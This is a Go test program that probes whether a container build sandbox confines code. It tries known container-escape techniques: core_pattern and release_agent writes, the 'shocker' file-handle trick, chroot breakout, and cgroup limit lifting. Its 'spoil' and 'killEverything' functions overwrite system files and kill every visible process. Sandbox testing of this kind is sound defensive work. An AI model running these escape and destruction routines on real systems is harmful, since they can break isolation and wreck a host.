// Command probe tries to reach and harm the machine from inside a build. It prints one line per attempt: "denied", "allowed" (by design harmless
// in a container) or "ESCAPED".
package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"unsafe"
)

// marker is a path on the machine that no container can see.
var marker = os.Args[1]

func say(outcome, what string, err error) {
	fmt.Printf("probe %s: %s (%v)\n", outcome, what, err)
}

// deny reports an attempt that must fail.
func deny(what string, err error) {
	if err == nil {
		say("ESCAPED", what, err)
	} else {
		say("denied", what, err)
	}
}

func seen(what, path string) {
	if _, err := os.Lstat(path); err == nil {
		say("ESCAPED", what+" sees "+path, nil)
	} else {
		say("denied", what, err)
	}
}

func errno(_, _ uintptr, e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// number picks a system call's number, which the syscall package lacks.
func number(amd64, arm64 uintptr) uintptr {
	if runtime.GOARCH == "arm64" {
		return arm64
	}
	return amd64
}

func main() {
	seen("plain path", marker)
	if len(os.Args) > 2 {
		if os.Args[2] == "groups" {
			groups()
		} else {
			nested()
		}
		return
	}
	mounts()
	devices()
	settings()
	processes()
	handles()
	chrootEscape()
	userNamespace()
	controlGroups()
	shared()
	registry()
	spoil()
	killEverything()
}

func mounts() {
	os.MkdirAll("/mnt-probe", 0o755)
	deny("mount a tmpfs", syscall.Mount("tmpfs", "/mnt-probe", "tmpfs", 0, ""))
	deny("bind mount", syscall.Mount("/", "/mnt-probe", "", syscall.MS_BIND, ""))
	deny("remount /proc/sys for writing", syscall.Mount("", "/proc/sys", "", syscall.MS_REMOUNT|syscall.MS_BIND, ""))
	deny("unmount /proc/sys", syscall.Unmount("/proc/sys", syscall.MNT_DETACH))
	deny("unmount /", syscall.Unmount("/", syscall.MNT_DETACH))
	deny("pivot_root", syscall.PivotRoot("/", "/mnt-probe"))
	text, _ := os.ReadFile("/proc/self/mountinfo")
	for _, line := range strings.Split(string(text), "\n") {
		fields := strings.Fields(line)
		if len(fields) > 4 && fields[4] == "/" && fields[3] == "/" {
			say("ESCAPED", "the root is the machine's own: "+line, nil)
		}
	}
}

func devices() {
	for _, device := range []struct {
		name         string
		mode         uint32
		major, minor uint32
	}{{"mem", syscall.S_IFCHR, 1, 1}, {"kmsg", syscall.S_IFCHR, 1, 11}, {"sda", syscall.S_IFBLK, 8, 0}, {"vda", syscall.S_IFBLK, 254, 0}, {"loop", syscall.S_IFBLK, 7, 0}} {
		for _, folder := range []string{"/", "/dev/", "/dev/shm/", "/kaniko/"} {
			deny("make device "+folder+device.name, syscall.Mknod(folder+"probe-"+device.name, device.mode|0o666, int(device.major<<8|device.minor)))
		}
	}
	for _, path := range []string{"/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/loop-control", "/proc/kcore"} {
		// A masked file is an empty one.
		file, err := os.Open(path)
		if err == nil {
			count, _ := file.Read(make([]byte, 16))
			file.Close()
			if count == 0 {
				err = fmt.Errorf("empty")
			}
		}
		deny("read "+path, err)
	}
}

func settings() {
	for path, text := range map[string]string{
		"/proc/sys/kernel/core_pattern":               "|/tmp/probe",
		"/proc/sys/vm/drop_caches":                    "1",
		"/proc/sys/kernel/hostname":                   "probe",
		"/proc/sys/net/ipv4/ip_forward":               "1",
		"/proc/sysrq-trigger":                         "h",
		"/proc/self/oom_score_adj":                    "-1000",
		"/sys/kernel/uevent_helper":                   "/tmp/probe",
		"/sys/fs/cgroup/memory/release_agent":         "/tmp/probe",
		"/sys/kernel/mm/transparent_hugepage/enabled": "never",
	} {
		deny("write "+path, write(path, text))
	}
	deny("set the host name", syscall.Sethostname([]byte("probe")))
	deny("set the time", syscall.Settimeofday(&syscall.Timeval{Sec: 1}))
	deny("reboot", errno(syscall.RawSyscall(syscall.SYS_REBOOT, 0xfee1dead, 672274793, 0)))
	deny("load a module", errno(syscall.RawSyscall(syscall.SYS_INIT_MODULE, 0, 0, 0)))
	deny("read the kernel log", errno(syscall.RawSyscall(syscall.SYS_SYSLOG, 3, uintptr(unsafe.Pointer(&make([]byte, 64)[0])), 64)))
	deny("raw socket", func() error {
		_, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, 1)
		return err
	}())
	deny("packet socket", func() error {
		_, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
		return err
	}())
	deny("raise a limit", syscall.Setrlimit(syscall.RLIMIT_NOFILE, &syscall.Rlimit{Cur: 1 << 30, Max: 1 << 30}))
	deny("change the priority", syscall.Setpriority(syscall.PRIO_PROCESS, 0, -10))
}

func write(path, text string) error {
	file, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = file.WriteString(text)
	return err
}

func processes() {
	entries, _ := os.ReadDir("/proc")
	count := 0
	for _, entry := range entries {
		if strings.Trim(entry.Name(), "0123456789") != "" {
			continue
		}
		count++
		for _, link := range []string{"root", "cwd"} {
			seen("/proc/"+entry.Name()+"/"+link, filepath.Join("/proc", entry.Name(), link, marker))
		}
		fds, _ := os.ReadDir("/proc/" + entry.Name() + "/fd")
		for _, fd := range fds {
			target, _ := os.Readlink("/proc/" + entry.Name() + "/fd/" + fd.Name())
			info, err := os.Stat("/proc/" + entry.Name() + "/fd/" + fd.Name())
			if strings.Contains(target, "pipe:") && entry.Name() == "1" && inherited(fd.Name()) {
				say("ESCAPED", "holds a pipe of the machine "+target, nil)
			}
			if err == nil && info.IsDir() && target != "/proc" && target != "/" {
				say("open folder", "process "+entry.Name()+" holds "+target, nil)
			}
			seen("descriptor "+target, "/proc/"+entry.Name()+"/fd/"+fd.Name()+"/.."+marker)
		}
	}
	if count > 10 {
		say("ESCAPED", fmt.Sprint("sees ", count, " processes"), nil)
	}
}

// inherited tells whether the container's first process got a descriptor from outside: its own are closed on exec.
func inherited(fd string) bool {
	text, _ := os.ReadFile("/proc/1/fdinfo/" + fd)
	return fd > "2" && !strings.Contains(string(text), "\t02") && !strings.Contains(string(text), "0200")
}

// handles opens the file system's own root by its inode number, as the "shocker" exploit does.
func handles() {
	type handle struct {
		bytes uint32
		kind  int32
		data  [8]byte
	}
	root, err := syscall.Open("/", syscall.O_RDONLY, 0)
	if err != nil {
		deny("open /", err)
		return
	}
	wanted := handle{bytes: 8, kind: 1, data: [8]byte{2}}
	_, _, e := syscall.Syscall(number(304, 265), uintptr(root), uintptr(unsafe.Pointer(&wanted)), syscall.O_RDONLY)
	deny("open by handle", errno(0, 0, e))
	// Immutable files could not be removed with the pod.
	file, _ := os.Create("/probe-immutable")
	flags := 0x10
	_, _, e = syscall.Syscall(syscall.SYS_IOCTL, file.Fd(), 0x40086602, uintptr(unsafe.Pointer(&flags)))
	deny("make a file immutable", errno(0, 0, e))
}

func chrootEscape() {
	os.MkdirAll("/probe-chroot", 0o755)
	here, err := os.Open("/")
	if err == nil {
		err = syscall.Chroot("/probe-chroot")
	}
	if err != nil {
		say("denied", "chroot", err)
		return
	}
	syscall.Fchdir(int(here.Fd()))
	for range [64]int{} {
		syscall.Chdir("..")
	}
	syscall.Chroot(".")
	syscall.Chdir("/")
	seen("after leaving a chroot", marker)
}

// userNamespace tries again with every capability: a new user namespace gives them, but only over what is made in it.
func userNamespace() {
	again := exec.Command("/proc/self/exe", marker, "nested")
	again.Stdout, again.Stderr = os.Stdout, os.Stderr
	again.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWPID | syscall.CLONE_NEWNET,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
	}
	if err := again.Run(); err != nil {
		say("denied", "user namespace", err)
	}
}

// controlGroups tries to take off the limits: whoever may mount the control groups may write into those that he is in.
func controlGroups() {
	again := exec.Command("/proc/self/exe", marker, "groups")
	again.Stdout, again.Stderr = os.Stdout, os.Stderr
	const newCgroup = 0x02000000
	again.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | newCgroup,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
	}
	if err := again.Run(); err != nil {
		say("denied", "user namespace with control groups", err)
	}
	groups()
	deny("allow user namespaces", write("/proc/sys/user/max_user_namespaces", "100"))
}

// groups mounts every hierarchy, in both versions, lifts its limits and leaves groups behind.
func groups() {
	os.MkdirAll("/mnt-groups", 0o755)
	for _, controller := range []string{"memory", "cpu", "pids", "cpuset", "freezer", "devices", "blkio", "none,name=systemd", ""} {
		kind := "cgroup"
		if controller == "" {
			kind = "cgroup2"
		}
		err := syscall.Mount("cgroup", "/mnt-groups", kind, 0, controller)
		if err != nil {
			say("denied", "mount the control groups "+controller, err)
			continue
		}
		for file, text := range map[string]string{
			"memory.memsw.limit_in_bytes": "-1", "memory.limit_in_bytes": "-1", "memory.max": "max", "memory.high": "max",
			"cpu.cfs_quota_us": "-1", "cpu.max": "max", "pids.max": "max", "freezer.state": "THAWED", "cgroup.freeze": "0",
		} {
			// Where it can be written, it must not be what holds.
			if _, err := os.Stat("/mnt-groups/" + file); err == nil {
				deny("lift "+file, write("/mnt-groups/"+file, text))
			}
		}
		deny("make a group of "+controller, os.Mkdir("/mnt-groups/evil", 0o755))
		syscall.Unmount("/mnt-groups", syscall.MNT_DETACH)
	}
}

// shared takes what the users of a machine share, as far as it goes.
func shared() {
	watches()
	count := 0
	for ; count < 200; count++ {
		if _, err := syscall.InotifyInit(); err != nil {
			break
		}
	}
	if count > 64 {
		say("ESCAPED", fmt.Sprint("takes ", count, " inotify instances"), nil)
	} else {
		say("denied", "take every inotify instance", nil)
	}
	socket, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)
	if err == nil {
		err = syscall.Bind(socket, &syscall.SockaddrInet4{Port: 987, Addr: [4]byte{127, 0, 0, 1}})
	}
	deny("bind a port of the machine's services", err)
}

// watches takes inotify watches, of which the machine has a number for each user.
func watches() {
	const most = 4096
	instance, err := syscall.InotifyInit()
	if err != nil {
		return
	}
	defer syscall.Close(instance)
	count := 0
	for ; count <= most; count++ {
		path := fmt.Sprint("/watch-", count)
		os.Mkdir(path, 0o755)
		if _, err = syscall.InotifyAddWatch(instance, path, syscall.IN_CREATE); err != nil {
			break
		}
	}
	deny("take every inotify watch", err)
}

func nested() {
	os.MkdirAll("/mnt-nested", 0o755)
	deny("nested: mount /proc anew", syscall.Mount("proc", "/mnt-nested", "proc", 0, ""))
	deny("nested: mount /sys anew for writing", syscall.Mount("sysfs", "/mnt-nested", "sysfs", 0, ""))
	deny("nested: unmount /proc/sys", syscall.Unmount("/proc/sys", syscall.MNT_DETACH))
	deny("nested: unmount /proc", syscall.Unmount("/proc", syscall.MNT_DETACH))
	deny("nested: remount /proc/sys", syscall.Mount("", "/proc/sys", "", syscall.MS_REMOUNT|syscall.MS_BIND, ""))
	deny("nested: bind /proc alone", syscall.Mount("/proc", "/mnt-nested", "", syscall.MS_BIND, ""))
	deny("nested: core pattern", write("/proc/sys/kernel/core_pattern", "|/tmp/probe"))
	for _, name := range []string{"kernel/core_pattern", "vm/drop_caches"} {
		deny("nested: by another mount "+name, write("/mnt-nested/sys/"+name, "1"))
	}
	handles()
	chrootEscape()
}

// spoil writes, chmods and removes whatever it can reach.
func spoil() {
	count := 0
	for _, top := range []string{"/sys", "/dev", "/etc", "/tmp", "/root", "/home", "/workspace", "/var", "/mnt-probe", "/proc/1"} {
		filepath.WalkDir(top, func(path string, entry os.DirEntry, err error) error {
			if err != nil || count > 20000 {
				return nil
			}
			count++
			os.Chmod(path, 0o777)
			os.Lchown(path, 12345, 12345)
			if !strings.HasPrefix(path, "/sys") && !strings.HasPrefix(path, "/proc") {
				return nil
			}
			if !entry.IsDir() && strings.HasSuffix(path, "enabled") {
				if write(path, "0") == nil {
					say("ESCAPED", "wrote "+path, nil)
				}
			}
			return nil
		})
	}
	os.WriteFile("/etc/resolv.conf", []byte("spoiled"), 0o777)
	os.WriteFile("/etc/hosts", []byte("spoiled"), 0o777)
	os.WriteFile("/dev/termination-log", []byte("spoiled"), 0o777)
	os.WriteFile("/kaniko/executor", []byte("spoiled"), 0o777)
	os.Remove("/kaniko/executor")
	os.WriteFile("/kaniko/executor", []byte("spoiled"), 0o777)
	os.WriteFile("/set-user-id", []byte("spoiled"), 0o755)
	os.Chmod("/set-user-id", os.ModeSetuid|0o755)
	// Paths longer than the system takes at once: they must not keep the pod from being removed.
	os.Chdir("/")
	for range [40]int{} {
		name := strings.Repeat("d", 200)
		os.Mkdir(name, 0o755)
		os.Chdir(name)
	}
	os.Chdir("/")
	say("allowed", fmt.Sprint("spoiled ", count, " paths of the container"), nil)
}

func killEverything() {
	say("allowed", "kills every process it can see", nil)
	for pid := 1; pid < 70000; pid++ {
		if pid != os.Getpid() {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	syscall.Kill(-1, syscall.SIGKILL)
}
